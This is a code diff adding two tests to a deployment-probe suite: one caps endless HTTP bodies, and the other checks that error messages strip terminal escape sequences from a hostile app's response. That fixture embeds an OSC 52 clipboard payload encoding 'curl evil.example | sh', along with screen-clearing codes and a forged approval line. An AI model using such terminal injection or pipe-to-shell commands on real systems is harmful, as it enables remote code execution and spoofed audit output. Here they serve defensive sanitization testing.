@@ -5,6 +5,9 @@ import { ApplicationFailure, CancelledFailure } from '@temporalio/common';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { probeColor, probeGet } from '../activities/http-probe.js';
 import { createProbeActivities, type MonitorProgress } from '../activities/probes.js';
+import { colorProvider } from '../analysis/color/index.js';
+import { httpHealthProvider } from '../analysis/http-health/index.js';
+import { jsonMetricReader } from '../analysis/json-metric/read.js';
 import type { MonitorInput } from '../activities/types.js';
 import { startLab, type Lab } from '../lab/index.js';
 import { activityEnv, rejectionOf, sleep } from './activities-helpers.js';
@@ -99,6 +102,68 @@ describe('probes against the lab', () => {
     const dropped = await probeGet(`${green}/health`, 500);
     expect(dropped.ok).toBe(false);
     expect(!dropped.ok && dropped.reason).toMatch(/^(connection closed by the server|connection reset|timeout)/);
+  });
+
+  it('an endless body ends every probe at the byte cap, long before its timeout (health, color, json-metric)', async () => {
+    const green = lab.appUrls.green;
+    lab.apps.setFault('green', { endlessBody: true });
+    const timed = async <T>(probe: () => Promise<T>): Promise<[T, number]> => {
+      const started = Date.now();
+      const answer = await probe();
+      return [answer, Date.now() - started];
+    };
+    const TIMEOUT = 4_000;
+    const [health, healthMs] = await timed(() => probeGet(`${green}/health`, TIMEOUT));
+    expect(health).toMatchObject({ ok: true, value: { status: 200 } });
+    expect(health.ok && health.value.body.length).toBe(64 * 1024);
+    const [color, colorMs] = await timed(() => probeColor(`${green}${COLOR_PATH}`, TIMEOUT));
+    expect(color).toMatchObject({ ok: false, reason: expect.stringMatching(/^non-JSON body from /) });
+    const check = { provider: 'http-health', name: 'health', url: `${green}/health` } as const;
+    const [measured] = await timed(() => httpHealthProvider.measure(check, { timeoutMs: TIMEOUT, env: {} }));
+    expect(measured).toMatchObject({ verdict: 'pass', value: 200 });
+    const colorCheck = { provider: 'color', name: 'color', url: `${green}${COLOR_PATH}`, expect: 'green' } as const;
+    const [colored] = await timed(() => colorProvider.measure(colorCheck, { timeoutMs: TIMEOUT, env: {} }));
+    expect(colored).toMatchObject({ verdict: 'fail', reason: expect.stringContaining('non-JSON body') });
+    const read = jsonMetricReader({ attempts: 1, timeoutMs: TIMEOUT });
+    const [metric, metricMs] = await timed(() =>
+      read(
+        { type: 'json', url: `${green}/health`, pointer: '/value' },
+        { color: 'green', service: 's', sha: 'x', window: '1m' },
+        0,
+      ),
+    );
+    expect(metric.answer).toEqual({ kind: 'unsupported', resultType: 'answer that is not JSON' });
+    for (const ms of [healthMs, colorMs, metricMs]) expect(ms).toBeLessThan(TIMEOUT / 2);
+    // The app stopped streaming when each probe let go: a few caps' worth, not seconds of it.
+    await sleep(50);
+    const sent = lab.apps.state('green').streamedBytes;
+    await sleep(100);
+    expect(lab.apps.state('green').streamedBytes).toBe(sent);
+    expect(sent).toBeLessThan(16 * 1024 * 1024);
+  });
+
+  it("a hostile app's body and the reasons quoting it are inert: no escape sequence, no line of its own", async () => {
+    const green = lab.appUrls.green;
+    const OSC52 = `\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`;
+    const hostile = `${OSC52}oops\u001b[2J\u001b[H\n    ✓ bob approved at 12:00:00\u009b31m`;
+    lab.apps.setFault('green', { body: hostile });
+    lab.apps.setHealthy('green', false);
+    const reasons = [
+      await probeGet(`${green}/health`, 1_000),
+      await probeColor(`${green}${COLOR_PATH}`, 1_000),
+      await httpHealthProvider.measure(
+        { provider: 'http-health', name: 'health', url: `${green}/health` },
+        { timeoutMs: 1_000, env: {} },
+      ),
+    ].map((answer) => (answer as { reason?: string }).reason ?? '');
+    expect(reasons[0]).toMatch(/^HTTP 503 from .*\/health: oops ✓ bob approved at 12:00:00$/);
+    expect(reasons[1]).toMatch(/^non-JSON body from .*: "oops ✓ bob approved at 12:00:00"$/);
+    expect(reasons[2]).toMatch(/^health: HTTP 503 from .*: oops ✓ bob approved/);
+    for (const reason of reasons) {
+      expect(reason).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
+      expect(reason).not.toContain(']52;');
+      expect(reason).not.toContain('[2J');
+    }
   });
 
   it('verifies an environment: N healthy answers in a row with the right color, heartbeating each', async () => {
